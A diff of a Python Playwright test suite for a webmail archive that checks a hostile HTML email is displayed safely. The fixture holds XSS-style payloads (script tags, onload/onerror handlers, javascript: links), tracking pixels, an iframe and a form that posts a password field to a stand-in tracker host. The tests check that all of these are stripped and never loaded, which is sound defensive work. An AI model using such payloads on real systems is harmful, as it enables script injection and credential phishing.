@@ -37,7 +37,7 @@ HOSTILE = f"""<!doctype html><html><head><style>body {{ background: url(https://
 <script>alert("script")</script></head><body style="color: red" onload="alert('onload')">
 <p>Su factura de diciembre está lista.</p>
 <img src="https://{TRACKER}/pixel.gif?lector=1" onerror="alert('onerror')" alt="logo">
-<img src="/static/panel.css" alt="relativa">
+<img src="/seguimiento.gif?lector=1" alt="relativa">
 <form action="https://{TRACKER}/robar" method="post"><input name="clave"><button>Enviar clave</button></form>
 <a href="javascript:alert('link')">Ver factura</a> <a href="https://example.com/ayuda">Ayuda</a>
 <iframe src="https://{TRACKER}/marco"></iframe><link rel="stylesheet" href="https://{TRACKER}/hoja.css">
@@ -90,7 +90,7 @@ async def checked(page: Page) -> None:
 def test_the_html_shown_runs_nothing_and_loads_nothing_from_elsewhere() -> None:
     shown = displayable(HOSTILE)
     for gone in ("<script", "alert", "onerror", "onload", "<style", "style=", "<form", "<input", "<iframe", "<link",
-                 TRACKER, "javascript:", "/static/panel.css", "background"):  # fmt: skip
+                 TRACKER, "javascript:", "seguimiento", "background"):  # fmt: skip
         assert gone not in shown, gone
     assert "Su factura de diciembre está lista." in shown
     assert '<a href="https://example.com/ayuda" target="_blank" rel="noopener noreferrer">Ayuda</a>' in shown
@@ -160,11 +160,11 @@ async def test_the_holder_searches_opens_pages_and_resends(page, factory, runtim
 async def test_a_hostile_html_mail_runs_nothing_and_loads_nothing(page, factory, runtime, request) -> None:
     account = await factory.account(email=HOLDER)
     await archived(runtime, account, "Factura de diciembre", HOSTILE)
-    requested: list[tuple[str, str]] = []
+    requested: list[str] = []
     dialogs: list[str] = []
 
     async def record(route: Route, pending: Request) -> None:
-        requested.append((pending.url, pending.resource_type))
+        requested.append(pending.url)
         if pending.url.startswith("http://127.0.0.1"):
             await route.continue_()
         else:
@@ -199,7 +199,7 @@ async def test_a_hostile_html_mail_runs_nothing_and_loads_nothing(page, factory,
     await page.click(".mail-html-toggle")  # and back to the text
     await expect(page.locator("#mail-reader")).to_be_visible()
     assert not dialogs
-    assert not [url for url, kind in requested if TRACKER in url or kind == "image"], requested
+    assert not [url for url in requested if TRACKER in url or "seguimiento" in url], requested
 
 
 async def test_a_contact_reads_only_their_mail_and_cannot_resend_it(page, factory, runtime) -> None:
